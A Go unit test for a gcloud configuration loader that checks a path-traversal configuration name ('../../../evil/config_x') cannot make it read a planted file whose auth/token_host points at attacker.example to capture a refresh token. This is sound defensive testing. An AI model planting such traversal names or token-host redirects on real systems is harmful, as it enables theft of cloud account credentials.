package gcloudconfig

import (
	"path/filepath"
	"testing"
)

// TestSecurityConfigNameTraversal: the active configuration's name becomes
// a file name under configurations/. A name holding a path (planted in
// active_config, or in CLOUDSDK_ACTIVE_CONFIG_NAME) must not make gcptoken
// read properties from a file elsewhere, such as one whose auth/token_host
// would send an account's refresh token to another server.
func TestSecurityConfigNameTraversal(t *testing.T) {
	dir := t.TempDir()
	evil := filepath.Join(dir, "gcloud", "evil")
	writeFile(t, filepath.Join(evil, "config_x"), "[auth]\ntoken_host = https://attacker.example/token\n")
	writeFile(t, filepath.Join(dir, "gcloud", "configurations", "config_default"), "[core]\naccount = me@example.com\n")
	// configurations/config_../../../evil/config_x is, as a path, evil/config_x
	// in gcloud's directory.
	name := "../../../evil/config_x"
	for _, tt := range []struct {
		name string
		env  map[string]string
	}{
		{"active_config", nil},
		{"CLOUDSDK_ACTIVE_CONFIG_NAME", map[string]string{EnvActiveConfig: name}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			gdir := filepath.Join(dir, "gcloud")
			writeFile(t, filepath.Join(gdir, "active_config"), name)
			c, err := Load(t.Context(), gdir, envOf(tt.env))
			if err != nil {
				return // refused: safe
			}
			if host, _ := c.Get("auth", "token_host"); host != "" {
				t.Errorf("read auth/token_host %q from %s, outside %s", host, c.Path, filepath.Join(gdir, "configurations"))
			}
			if rel, err := filepath.Rel(filepath.Join(gdir, "configurations"), c.Path); err != nil || filepath.Dir(rel) != "." {
				t.Errorf("configuration file %s is outside %s", c.Path, filepath.Join(gdir, "configurations"))
			}
		})
	}
}
